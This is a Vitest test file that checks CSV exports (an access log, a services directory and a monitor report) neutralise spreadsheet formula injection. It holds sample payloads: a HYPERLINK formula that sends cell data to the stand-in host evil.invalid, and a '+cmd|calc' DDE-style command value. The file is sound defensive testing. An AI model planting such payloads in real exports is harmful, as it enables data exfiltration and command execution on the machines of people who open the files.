import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseCell, toCsv } from './csv.js';
import { buildMunicipality, buildScene, buildService } from './testing/factories.js';
import { createTestApp, signedInAs, type TestApp } from './testing/harness.js';

const HOSTILE = '=HYPERLINK("http://evil.invalid/?x="&A1,"klik")';

describe('CSV cells cannot attack the reader', () => {
  it('prefixes text a spreadsheet would run as a formula; numbers stay numbers', () => {
    for (const v of ['=1+1', '+SUM(A1)', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) expect(neutraliseCell(v)).toBe(`'${v}`);
    for (const v of ['Jeugdzorg', '1-2', 'a=b', '', "'al"]) expect(neutraliseCell(v)).toBe(v);
    expect(toCsv([[-3, '-3', 4.5, '=x']])).toBe("-3,'-3,4.5,'=x\n");
  });
});

describe('every export neutralises hostile cells', () => {
  let t: TestApp;
  let scene: Awaited<ReturnType<typeof buildScene>>;
  beforeAll(async () => {
    t = await createTestApp();
    scene = await buildScene(t.db);
  });
  afterAll(() => t.close());

  it('the access log (a user agent is anyone’s to choose)', async () => {
    const admin = await signedInAs(t, scene, 'admin');
    await admin.agent.request({ method: 'GET', url: '/api/v1/admin/access-log', headers: { 'user-agent': HOSTILE } });
    const csv = await admin.agent.get('/api/v1/admin/access-log.csv');
    expect(csv.statusCode).toBe(200);
    expect(csv.body).toContain(`'=HYPERLINK`);
    expect(csv.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('the sociale kaart', async () => {
    await buildService(t.db, { organisationId: scene.organisation.id, municipalityIds: [scene.municipality.id], name: HOSTILE, summary: '@SUM(1+1)' });
    const policy = await signedInAs(t, scene, 'policy');
    const csv = await policy.agent.get(`/api/v1/directory/services.csv?municipalityId=${scene.municipality.id}`);
    expect(csv.statusCode).toBe(200);
    expect(csv.body).toContain(`'=HYPERLINK`);
    expect(csv.body).toContain(`'@SUM(1+1)`);
    expect(csv.body).not.toMatch(/(^|;)"?[=@]/m);
  });

  it('the monitor (a municipality name is set by an admin)', async () => {
    const hostile = { ...scene, municipality: await buildMunicipality(t.db, { regionId: scene.region.id, name: '+cmd|calc' }) };
    const policy = await signedInAs(t, hostile, 'policy');
    const csv = await policy.agent.get(`/api/v1/monitor.csv?municipalityId=${hostile.municipality.id}&from=2026-01-01&to=2026-03-31`);
    expect(csv.statusCode).toBe(200);
    expect(csv.body).toContain(`'+cmd|calc`);
    expect(csv.body).not.toMatch(/^"?\+cmd/m);
  });
});
